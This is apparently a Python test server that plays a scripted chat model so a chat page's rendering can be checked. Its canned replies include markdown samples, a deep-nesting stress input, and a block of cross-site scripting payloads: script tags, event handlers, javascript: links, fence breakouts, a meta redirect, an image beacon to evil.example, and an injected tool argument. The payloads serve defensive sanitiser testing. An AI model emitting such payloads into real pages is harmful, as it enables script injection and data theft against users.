"""A server for the check of the chat page: words in the last message choose what its model replies."""

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1] / "helpers"))

from scripted_model import Message, ScriptedModel, call, serve_until_signal, text_of

MARKDOWN = """\
# Mountain goats

A **tahr** is *not quite* a goat; see [the entry](https://example.org/tahr "entry") or https://example.org/a_b.

1. First
   - nested, with `code`
2. Second
   continued

- [x] done
- [ ] open

| name | height |
|:-----|-------:|
| Himalayan | 100 cm |
| Nilgiri | 110 cm |

```python
# how high
def height(name: str = "tahr") -> float:
    return 1.0 if name else 0
```

> A quote with ~~no~~ **some** meaning.
"""
HOSTILE = """\
<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload="window.hacked = 1">
<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><a href="javascript:window.hacked = 1">html link</a>

[script](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)
[up](JaVaScRiPt:window.hacked=1) [tab](java\tscript:window.hacked=1) [file](file:///etc/passwd) ![picture](https://evil.example/steal?said=all)
[ok](https://example.org/"onclick="window.hacked=1)

```html"><script>window.hacked = 1</script>
</code></pre><script>window.hacked = 1</script>
```

| <img src=x onerror=window.hacked=1> | `<b>` |
|---|---|
| **<style>body { display: none }</style>** | [a](vbscript:x) |

# <meta http-equiv="refresh" content="0; url=https://evil.example">
"""
DEEP = (
    ">" * 3000
    + "- " * 3000
    + "*a " * 3000
    + "a* " * 3000
    + "[" * 3000
    + "`" * 999
    + "\n"
    + "|" * 2000
    + "\n"
    + "|-" * 1000
)


def play(messages: list[Message], tools: list[dict[str, object]]) -> str:
    last = messages[-1]
    text = text_of(last)
    if last["role"] == "tool":
        return f"The tool says: {text}"
    if "TOOL" in text:
        return "Let me look." + call("get_weather", city='Rome <img src=x onerror="window.hacked=1">')
    if "THINK" in text:
        return "<think>\nFirst I **weigh** it.\n<b>no tag</b>\n</think>\n\nThe answer is 42."
    pages = {"MARKDOWN": MARKDOWN, "HOSTILE": HOSTILE, "DEEP": DEEP, "ENDLESS": "word " * 20_000}
    return next((page for word, page in pages.items() if word in text), f"You said: {text}")


serve_until_signal(ScriptedModel(play), ready=lambda address: print(f"Ready on {address} ", flush=True))
